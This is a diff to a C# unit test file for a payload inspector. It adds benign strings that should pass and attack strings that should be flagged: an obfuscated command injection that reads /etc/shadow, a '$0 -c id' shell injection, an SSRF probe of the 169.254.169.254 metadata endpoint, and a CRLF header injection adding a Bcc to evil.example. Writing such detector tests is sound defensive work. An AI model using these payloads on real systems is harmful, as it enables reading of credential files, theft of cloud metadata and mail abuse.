@@ -158,6 +158,9 @@ public sealed class PayloadInspectorTests
         "//book[not(self::magazine)]",
         "sftp://files.bank-example.com:22/outbound/MT940_001.txt",
         "Where? Who? Why? — the 5 Ws of reporting",
+        "Factorise: (3x + 2y)(x - y)",
+        "Rust & coffee. Mods: @ana, @li",
+        "Subject: Grades for term 2",
     ];
 
     public static TheoryData<string, InspectionCategory> Attacks() => new()
@@ -361,6 +364,10 @@ public sealed class PayloadInspectorTests
         { "ping -c 1 a9x8.oastify.com", InspectionCategory.Ssrf },
         { "\\\\q1w2.oast.pro\\share\\x", InspectionCategory.Ssrf },
         { "sftp://files.example.net:2222/", InspectionCategory.Ssrf },
+        { "cat ${HOME:0:1}etc${HOME:0:1}shadow; ${PATH:0:1}bin", InspectionCategory.Cmdi },
+        { "x; $0 -c 'id'", InspectionCategory.Cmdi },
+        { "http:/\\/\\169.254.169.254/latest/", InspectionCategory.Ssrf },
+        { "Subject: Marks\r\nBcc: list@evil.example", InspectionCategory.Crlf },
     };
 
     [Theory]
